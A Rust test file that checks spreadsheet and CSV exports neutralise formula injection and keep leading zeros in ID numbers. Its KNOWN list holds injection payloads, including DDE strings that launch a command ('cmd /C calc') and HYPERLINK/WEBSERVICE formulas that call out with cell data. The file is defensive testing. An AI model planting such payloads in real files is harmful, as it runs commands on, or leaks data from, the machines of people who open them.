//! G21: a name that looks like a formula stays a name, in Excel, in CSV and back again; IDs keep their zeros.

use super::samples;
use calamine::{Data, Reader, Xlsx};
use office::letter::clean;
use office::sheet::{self, Cell, Column, Kind, Print, Row, Sheet, csv};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, TestRunner};
use std::io::{Cursor, Read};

/// How many values are tried.
const VALUES: u32 = 1_000;
/// What spreadsheet programs are known to run.
const KNOWN: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"Xem\")",
    "=WEBSERVICE(\"http://example.com\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "'=1+1",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "{=SUM(A1:A2)}",
    "_x003D_1+1",
];

fn sheet(texts: &[String], ids: &[String]) -> Sheet {
    let column = |header: &str, kind| Column { header: header.into(), width: 20, kind };
    Sheet {
        name: "Thử".into(),
        heading: None,
        title: None,
        columns: vec![column("Họ và tên", Kind::Text), column("Số CCCD", Kind::Id)],
        groups: vec![],
        rows: texts
            .iter()
            .zip(ids)
            .map(|(text, id)| Row::Line { cells: vec![Cell::text(text.clone()), Cell::text(id.clone())] })
            .collect(),
        notes: vec![],
        closing: None,
        print: Print::UPRIGHT,
    }
}

/// Values that begin as formulas do, with anything after.
fn values() -> (Vec<String>, Vec<String>) {
    let mut runner = TestRunner::new_with_rng(
        Config { cases: VALUES, failure_persistence: None, ..Config::default() },
        proptest::test_runner::TestRng::deterministic_rng(proptest::test_runner::RngAlgorithm::ChaCha),
    );
    let text = "[=+@\t\r\u{0}'-][^\u{202a}-\u{202e}]{0,40}";
    let made = |runner: &mut TestRunner, pattern: &str| -> Vec<String> {
        let strategy = proptest::string::string_regex(pattern).unwrap();
        (0..VALUES).map(|_| strategy.new_tree(runner).unwrap().current()).collect()
    };
    let mut texts = made(&mut runner, text);
    texts.splice(0..KNOWN.len(), KNOWN.map(str::to_owned));
    let ids = made(&mut runner, "0{1,3}[0-9]{9}");
    (texts, ids)
}

/// What the register would keep of a text: cleaned, as every name is on entry.
fn kept(text: &str) -> String {
    clean(text)
}

#[test]
fn a_workbook_holds_every_hostile_value_as_plain_text() {
    let (texts, ids) = values();
    let file = sheet::write(&sheet(&texts, &ids), &samples::about("Thử")).unwrap();

    let mut archive = zip::ZipArchive::new(Cursor::new(&file)).unwrap();
    let mut tab = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut tab).unwrap();
    assert_eq!(tab.matches("<f>").count() + tab.matches("<f ").count(), 0, "no formula cells");
    let names: Vec<String> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
    assert!(names.iter().all(|name| !name.contains("externalLink") && !name.contains("hyperlink")), "{names:?}");

    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file)).unwrap();
    let range = book.worksheet_range("Thử").unwrap();
    for (at, (text, id)) in texts.iter().zip(&ids).enumerate() {
        let cell = |column: u32| match range.get_value((u32::try_from(at).unwrap() + 1, column)) {
            Some(Data::String(words)) => words.replace("\r\n", "\n"),
            None | Some(Data::Empty) => String::new(),
            Some(other) => panic!("row {at} is not text: {other:?}"),
        };
        assert_eq!(cell(0), kept(text), "row {at}");
        assert_eq!(&cell(1), id, "row {at}");
    }
}

#[test]
fn a_csv_file_begins_no_cell_like_a_formula_and_reads_back_as_it_was() {
    let (texts, ids) = values();
    let file = csv::csv(&sheet(&texts, &ids)).unwrap();
    let text = String::from_utf8(file).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark, or Excel takes it for an old code page");
    let records = read_csv(text);
    assert_eq!(records.len(), texts.len() + 1);
    for ((record, text), id) in records.iter().skip(1).zip(&texts).zip(&ids) {
        assert!(!record[0].starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", record[0]);
        assert_eq!(csv::unprotect(&record[0]), kept(text));
        assert_eq!(&record[1], id);
    }
}

/// Semicolons, quotes doubled within quotes: enough to read what was written.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = vec![vec![String::new()]];
    let mut quoted = false;
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        let cell = records.last_mut().unwrap().last_mut().unwrap();
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ';' if !quoted => records.last_mut().unwrap().push(String::new()),
            '\r' if !quoted && letters.peek() == Some(&'\n') => {
                letters.next();
                records.push(vec![String::new()]);
            }
            other => cell.push(other),
        }
    }
    records.pop();
    records
}
